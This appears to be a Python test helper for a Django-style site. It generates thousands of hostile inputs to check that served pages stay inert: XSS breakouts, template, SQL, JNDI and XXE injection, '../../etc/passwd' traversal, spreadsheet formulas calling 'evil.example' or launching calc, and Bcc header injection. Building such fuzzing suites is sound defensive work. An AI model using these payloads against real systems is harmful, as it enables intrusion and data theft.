"""Plain text that somebody who means harm would send as a comment, a name or an address: the same on every run.

`is_inert` judges any page of HTML that was served after one of them was taken.
"""

import re
import sys
import unicodedata
from html.parser import HTMLParser

from tests.doors.hostile import ADDRESSES, MARKUP

BREAKOUTS = [
    "{}", '">{}', "'>{}", "` {}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "--><!-- {}", "]]>{}",
    "</p></li></ol></main>{}", "{}\n\n{}", "\\{}", "&lt;{}&gt;", "%3C{}%3E", "\\u003c{}\\u003e", "{{{{ {} }}}}",
    "{{% comment %}}{}{{% endcomment %}}", "[x]({})", "![{}](x)", "<bdi>{}", "<!--[if IE]>{}<![endif]-->", "<{}",
    "{}\u202e", "=HYPERLINK(\"{}\")",
]  # fmt: skip
EVENTS = ["click", "load", "error", "focus", "mouseover", "toggle", "animationstart", "pointerenter", "beforetoggle"]
ATTRIBUTES = ['" on{}=alert(1) x="', "' on{}=alert(1) x='", " on{}=alert(1) ", '"/on{}="alert(1)', "<x on{}=alert(1)>"]
TEMPLATES = [
    "{{ 7319*7331 }}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.META }}",
    "{% debug %}",
    "{% load static %}",
    "{% include 'base.html' %}",
    "{% csrf_token %}",
    "{# gone #}",
    "{% endblock %}",
    "{{ form.media|safe }}",
    "{{",
    "{%",
    "%(name)s",
    "%s%s%n",
    "{0.__class__}",
    "{self.__init__.__globals__}",
    "${7319*7331}",
    "#{7319*7331}",
    "<%= 7319*7331 %>",
    "__proto__[x]=1",
    "$(touch x)",
    "`touch x`",
    "; rm x",
    "../../etc/passwd",
    "\\\\evil.example\\x",
    "${jndi:ldap://evil.example}",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE comments_comment; --",
    '" OR 1=1 --',
    "') UNION SELECT 1--",
    "%' ESCAPE '",
    "\\'",
    "_%",
]
BREAKERS = [
    '{"a": "',
    '"}]',
    "\\",
    '\\\\"',
    "\\u0000",
    "\\ud800",
    "</script><!--<script>",
    "]]>",
    "<?xml version='1.0'?>",
    "&nbsp;",
    "&unknown;",
    "&#0;",
    "&#xD800;",
    "&",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<",
    ">",
    '"',
    "'",
]
FORMULAS = [
    f"{sign}{rest}" for sign in "=+-@\t\r" for rest in ("1+1", "cmd|' /C calc'!A0", 'IMPORTXML("//evil.example")')
]
HEADERS = [
    f"{start}{end}{header}"
    for start in ("Ana", "ana@example.com")
    for end in ("\r\n", "\n", "\r", "\v", "\x85", "\u2028", "%0d%0a", "\\r\\n", "\n\n")
    for header in ("Bcc: all@evil.example", "Subject: hello", "Content-Type: text/html\n\n<script>alert(1)</script>")
]
WRITING = [
    "مرحبا بالعالم",
    "שלום עולם",
    "abc \u202eשלום\u202c def",
    "العربية English עברית",
    "क्‍ष" * 50,
    "👩‍👩‍👧‍👦" * 200,
    "🏴\U000e0067\U000e007f",
    "Z" + "".join(map(chr, range(0x300, 0x370))) * 20,
    "\u0301" * 1000,
    "\ufdfa" * 500,
    "ﷺ" * 500,
    "꧅" * 500,
    "ǆ" * 300,
    "i\u0307İıſK",
    "\u115f" * 100,
    "ß" * 100,
    "\U0001f1e6" * 99,
    "1\ufe0f\u20e3" * 99,
    "\ufeff" * 99,
    "\u00ad" * 999,
]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _unseen() -> list[str]:
    """Every control and format that UTF-8 carries, but NUL, which has a list of its own."""
    found = [c for c in map(chr, range(1, sys.maxunicode + 1)) if unicodedata.category(c) in ("Cc", "Cf")]
    return [*found, *"\u034f\u115f\u1160\u180b\u2800\u3164\uffa0\ufe0f\ufffc\ufffe\uffff\ufdd0\ue000\U0010ffff"]


def hostile_texts() -> list[str]:
    """More than two thousand, none with a NUL or a lone surrogate, so that all can be sent as UTF-8."""
    return [
        *(breakout.format(text, text) for breakout in BREAKOUTS for text in [*MARKUP, *ADDRESSES]),
        *(attribute.format(event) for attribute in ATTRIBUTES for event in EVENTS),
        *TEMPLATES, *SQL, *BREAKERS, *FORMULAS, *HEADERS, *WRITING,
        *(form.format(c) for c in _unseen() for form in ("a{}b", "<scr{0}ipt{0}>alert(1)</script>", "{}")),
        *(f"{a}<b {b}onclick=alert(1)>" for a in BIDI for b in BIDI),
        *_large_texts(),
    ]  # fmt: skip


def _large_texts() -> list[str]:
    return ["a" * 5_000, "é" * 5_000, "<" * 5_000, "<b>" * 2_000, "a\n" * 3_000, "http://a.example/" * 400,
            "<script>alert(1)</script>" * 40_000, "a\u0301\u0327" * 333_333, "💥" * 250_000]  # fmt: skip


def hostile_names() -> list[str]:
    """For whatever is one short line: a name, a subject, a header."""
    return [*HEADERS, *FORMULAS, *TEMPLATES, *BREAKERS, *MARKUP, *WRITING, *(f"A{c}na" for c in _unseen()), "A" * 5_000]


def hostile_emails() -> list[str]:
    return [
        *(
            f"ana@example.com{end}Bcc: all@evil.example"
            for end in ("\r\n", "\n", "\r", "%0a", "\u2028", "\x85", ",", ";")
        ),
        *(f'"{markup}"@example.com' for markup in MARKUP),
        "<ana@example.com>",
        "ana@example.com>, <all@evil.example",
        "ana@[127.0.0.1]",
        "ana@example.com\u202e",
        "а@пример.рф",
        "a" * 65 + "@example.com",
        "ana@" + "a." * 500 + "com",
        "@" * 500,
        "ana@@example.com",
        "ana@exa mple.com",
        '""@a.bc',
    ]


def hostile_bytes() -> list[bytes]:
    """Values for the raw body of a request that are no text: send them as they are or percent-encoded."""
    bad = [
        b"\0",
        b"\xff",
        b"\xfe\xff",
        b"\x80",
        b"\xc0\x80",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xc3",
        b"\xe2\x82",
        b"\xf0\x9f\x92",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xed\xa0\xbd\xed\xb2\xa9",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        "café".encode("latin-1"),
        "Straße".encode("utf-16"),
        b"+ADw-script+AD4-\0",
    ]
    return [form % value for value in bad for form in (b"%s", b"a%sb", b"a%s", b"<script>%s</script>")]


# What could act in a page

# No page of this site has any of these; a page's own scripts and styles are files.
ACTIVE_TAGS = {
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "math",
    "foreignobject",
    "portal",
    "marquee",
}
ADDRESSED = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping"}
HARMLESS_SCHEMES = {"http", "https", "mailto", "tel"}
DATA_SCRIPTS = {"application/ld+json", "application/json"}
TAG_WITH_ATTRIBUTES = re.compile(r"<[!?/a-zA-Z][^<>]*[=\[?/-][^<>]*>?")


class _Page(HTMLParser):
    def __init__(self, html: str):
        super().__init__()
        self.faults = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        values = dict(attributes)
        inline = tag == "script" and not (values.get("src") or "").startswith("/static/")
        refresh = tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh"
        if tag in ACTIVE_TAGS or refresh or (inline and values.get("type") not in DATA_SCRIPTS):
            self.faults.append(self.get_starttag_text())
        for name, value in attributes:
            # As a browser reads an address: without blanks and controls before it, and line ends anywhere.
            address = re.sub(r"[\t\n\r]", "", (value or "").lstrip("".join(map(chr, range(33)))))
            scheme = re.match(r"[a-zA-Z][\w+.-]*(?=:)", address)
            foreign = name in ADDRESSED and scheme and scheme[0].lower() not in HARMLESS_SCHEMES
            if foreign or name.startswith("on") or name in ("style", "srcdoc") or re.search(r"[\"'<=`]", name):
                self.faults.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem and "<" in data:  # the text of a script: what is data there writes < as \u003C
            self.faults.append(data)


def active_in(html: str) -> list[str]:
    """What a browser could run, load or follow that no page of this site has; empty for a sound page."""
    return _Page(html).faults


def is_inert(html: str, text: str = "") -> bool:
    """Nothing in the page acts, and no tag of the text stands in it unescaped."""
    return not active_in(html) and not any(tag in html for tag in TAG_WITH_ATTRIBUTES.findall(text))
